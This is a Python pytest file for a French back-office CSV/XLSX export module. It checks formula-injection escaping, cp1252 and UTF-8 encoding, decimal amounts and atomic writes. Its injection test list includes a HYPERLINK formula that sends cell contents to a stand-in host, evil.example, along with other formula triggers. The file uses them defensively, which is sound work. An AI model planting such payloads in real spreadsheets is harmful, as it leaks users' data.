"""The shared CSV/XLSX writer (``backoffice.spreadsheets``): formula neutralising, French
conventions (accents, amounts), encodings, and atomic files."""
import hashlib
import io
import os
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from backoffice import spreadsheets
from backoffice.spreadsheets import (
    ExportError,
    Sheet,
    neutralise,
    write_csv,
    write_table,
    write_xlsx,
)
from tests.sheets import csv_bytes, read_csv_rows

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=1+1",
]
SAFE = ["Dupont & Fils", "", "1-2", "Cotisation 2026", " =1", "a=b", "'déjà cité"]


# --- formula injection ----------------------------------------------------------------

@pytest.mark.parametrize("text", INJECTIONS)
def test_neutralise_prefixes_formula_triggers(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_neutralise_leaves_other_text(text):
    assert neutralise(text) == text


def test_csv_neutralises_text_cells_but_not_amounts():
    rows = [(text, Decimal("-12.50"), -3) for text in INJECTIONS]
    data, _ = csv_bytes(rows, header=("Libellé", "Montant", "Nombre"))
    read = read_csv_rows(data)
    assert read[0] == ["Libellé", "Montant", "Nombre"]
    assert [row[0] for row in read[1:]] == ["'" + text for text in INJECTIONS]
    assert all(row[1:] == ["-12,50", "-3"] for row in read[1:])


def test_csv_neutralises_the_header_too():
    data, _ = csv_bytes([], header=("=cmd", "ok"))
    assert read_csv_rows(data) == [["'=cmd", "ok"]]


def test_xlsx_writes_formula_like_text_as_string_cells_without_apostrophe(tmp_path):
    import zipfile

    path = tmp_path / "export.xlsx"
    rows = [(text, Decimal("-12.50"), date(2026, 3, 14)) for text in INJECTIONS + SAFE]
    write_xlsx([Sheet("Injection", ("=Libellé", "Montant", "Date"), iter(rows))], path)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "'=" not in xml         # no formula, no apostrophe
    sheet = openpyxl.load_workbook(path)["Injection"]
    assert sheet["A1"].value == "=Libellé" and sheet["A1"].data_type == "s"
    for index, text in enumerate(INJECTIONS + SAFE, start=2):
        cell = sheet.cell(index, 1)
        assert cell.data_type != "f"                     # never a formula
        assert (cell.value or "") == text
        if text in INJECTIONS:
            assert cell.data_type == "s"
        amount = sheet.cell(index, 2)
        assert amount.data_type == "n" and amount.value == -12.5
        assert amount.number_format == "#,##0.00"
        when = sheet.cell(index, 3)
        assert when.is_date and when.value == datetime(2026, 3, 14)
        assert when.number_format == "DD/MM/YYYY"


def test_csv_quotes_separators_and_newlines_inside_text():
    data, _ = csv_bytes([("a;b", "deux\r\nlignes")], header=("x", "y"))
    assert read_csv_rows(data)[1] == ["a;b", "deux\r\nlignes"]


def test_cp1252_keeps_euro_and_oe_and_replaces_the_rest_counting_them():
    rows = [("Œuvre 5 €", "Ŝŝ → fin 😀")]
    data, summary = csv_bytes(rows, header=("a", "b"), encoding="cp1252")
    assert not data.startswith(b"\xef\xbb\xbf")
    assert read_csv_rows(data, "cp1252") == [["a", "b"], ["Œuvre 5 €", "?? ? fin ?"]]
    assert summary.replaced_chars == 4


def test_cp1252_strict_names_the_row():
    rows = [("ok",), ("ok",), ("Ŝ",)]
    with pytest.raises(ExportError, match="« Ŝ ».*ligne 3"):
        csv_bytes(rows, encoding="cp1252", errors="strict")


def test_csv_refuses_unknown_encoding_and_text_files():
    with pytest.raises(ValueError):
        write_csv([], ("a",), io.BytesIO(), encoding="latin-1")
    with pytest.raises(TypeError):
        write_csv([], ("a",), io.StringIO())


def test_xlsx_strips_control_characters_xml_cannot_hold(tmp_path):
    path = tmp_path / "x.xlsx"
    write_xlsx([Sheet("S", ("a",), iter([("bip\x07 bip",)]))], path)
    assert openpyxl.load_workbook(path)["S"]["A2"].value == "bip bip"


def test_xlsx_refuses_more_rows_than_excel_holds(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 4)
    path = tmp_path / "x.xlsx"
    with pytest.raises(ExportError, match="limite d'Excel"):
        write_xlsx([Sheet("S", ("a",), iter([("x",)] * 4))], path)
    assert os.listdir(tmp_path) == []


# --- atomic files ----------------------------------------------------------------------

def failing_rows():
    yield ("ok", Decimal("1.00"))
    raise RuntimeError("database went away")


def test_csv_to_path_leaves_nothing_on_error(tmp_path):
    path = tmp_path / "journal.csv"
    with pytest.raises(RuntimeError):
        write_csv(failing_rows(), ("a", "b"), path)
    assert os.listdir(tmp_path) == []


def test_csv_to_path_keeps_previous_file_on_error(tmp_path):
    path = tmp_path / "journal.csv"
    path.write_bytes(b"old")
    with pytest.raises(ExportError):
        write_csv(iter([("Ŝ",)]), ("a",), path, encoding="cp1252", errors="strict")
    assert path.read_bytes() == b"old" and os.listdir(tmp_path) == ["journal.csv"]


def test_csv_to_path(tmp_path):
    path = tmp_path / "journal.csv"
    summary = write_csv(iter([("Hélène", Decimal("2.00"))]), ("Nom", "Montant"), str(path))
    assert summary.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert summary.row_count == 1
    assert os.listdir(tmp_path) == ["journal.csv"]


def test_xlsx_leaves_nothing_on_error(tmp_path):
    path = tmp_path / "export.xlsx"
    with pytest.raises(RuntimeError):
        write_xlsx([Sheet("S", ("a", "b"), failing_rows())], path)
    assert os.listdir(tmp_path) == []


def test_unknown_cell_type_is_a_programming_error(tmp_path):
    with pytest.raises(TypeError):
        csv_bytes([(object(),)])
    with pytest.raises(TypeError):
        write_xlsx([Sheet("S", ("a",), iter([(1.5j,)]))], tmp_path / "x.xlsx")
    assert os.listdir(tmp_path) == []


# --- one table, the shortcut of every export -------------------------------------------

MEMBERS_HEADER = ("Nom", "Prénom", "Profession", "Cotisation", "Réglée le", "À jour")
MEMBERS = [
    ("D'ARVOR", "Loïc", "Masseur-kinésithérapeute", Decimal("30.00"), date(2026, 1, 15), True),
    ("Lefèvre-Nguyễn", "Hélène", "Infirmière", Decimal("1234.50"), None, False),
    ("Œuvre", "Zoé", "=2+5", Decimal("-12.50"), date(2026, 2, 1), True),  # a refund, a nasty label
]


def test_write_table_csv_french_conventions_into_a_file_object():
    buffer = io.BytesIO()
    assert write_table("csv", MEMBERS_HEADER, iter(MEMBERS), buffer) == 3
    data = buffer.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")                      # BOM: Excel reads UTF-8
    assert b"\r\n" in data and data.count(b"\n") == data.count(b"\r\n") == 4
    assert read_csv_rows(data) == [
        list(MEMBERS_HEADER),
        ["D'ARVOR", "Loïc", "Masseur-kinésithérapeute", "30,00", "15/01/2026", "Oui"],
        ["Lefèvre-Nguyễn", "Hélène", "Infirmière", "1234,50", "", "Non"],
        ["Œuvre", "Zoé", "'=2+5", "-12,50", "01/02/2026", "Oui"],   # the refund stays a number
    ]


def test_write_table_xlsx_numbers_dates_and_accents(tmp_path):
    path = tmp_path / "adherents.xlsx"
    assert write_table("xlsx", MEMBERS_HEADER, iter(MEMBERS), path, title="Adhérents") == 3
    sheet = openpyxl.load_workbook(path)["Adhérents"]
    assert [cell.value for cell in sheet[1]] == list(MEMBERS_HEADER)
    assert [cell.value for cell in sheet[3]][:2] == ["Lefèvre-Nguyễn", "Hélène"]
    assert sheet["D3"].data_type == "n" and sheet["D3"].value == 1234.5
    assert sheet["D4"].value == -12.5 and sheet["D4"].number_format == "#,##0.00"
    assert sheet["C4"].value == "=2+5" and sheet["C4"].data_type == "s"  # a string, never a formula
    assert sheet["E2"].is_date and sheet["E2"].value == datetime(2026, 1, 15)
    assert sheet["F2"].value == "Oui"
    assert os.listdir(tmp_path) == ["adherents.xlsx"]


def test_write_xlsx_into_a_binary_file_object():
    buffer = io.BytesIO()
    write_table("xlsx", ("Montant",), iter([(Decimal("0.01"),)]), buffer)
    assert openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A2"].value == 0.01
    with pytest.raises(TypeError):
        write_xlsx([Sheet("S", ("a",), iter([]))], io.StringIO())


def test_a_negative_amount_typed_as_text_is_text_and_neutralised():
    """Only real numbers are kept as numbers: « -12,50 » given as a string is text a spreadsheet
    would evaluate (``-1+1`` too), so it is neutralised; ``Decimal`` and ``int`` are not."""
    data, _ = csv_bytes([("-12,50", Decimal("-12.50"), -3)], header=("a", "b", "c"))
    assert read_csv_rows(data)[1] == ["'-12,50", "-12,50", "-3"]


def test_write_table_refuses_an_unknown_format():
    with pytest.raises(ValueError):
        write_table("ods", ("a",), iter([]), io.BytesIO())


def test_csv_amounts_are_exact_or_refused():
    with pytest.raises(ExportError, match="plus de deux décimales"):
        csv_bytes([(Decimal("30.005"),)])
    with pytest.raises(TypeError):
        csv_bytes([(30.5,)])                             # a float has no place in amounts


def test_xlsx_keeps_previous_file_on_error(tmp_path):
    path = tmp_path / "adherents.xlsx"
    path.write_bytes(b"old")
    with pytest.raises(RuntimeError):
        write_table("xlsx", ("a", "b"), failing_rows(), path)
    assert path.read_bytes() == b"old" and os.listdir(tmp_path) == ["adherents.xlsx"]


def test_people_import_template_is_written_by_the_shared_writer():
    from backoffice.people.importer import FIELDS, template_csv

    data = template_csv()
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv_rows(data) == [[label for _, label in FIELDS]]
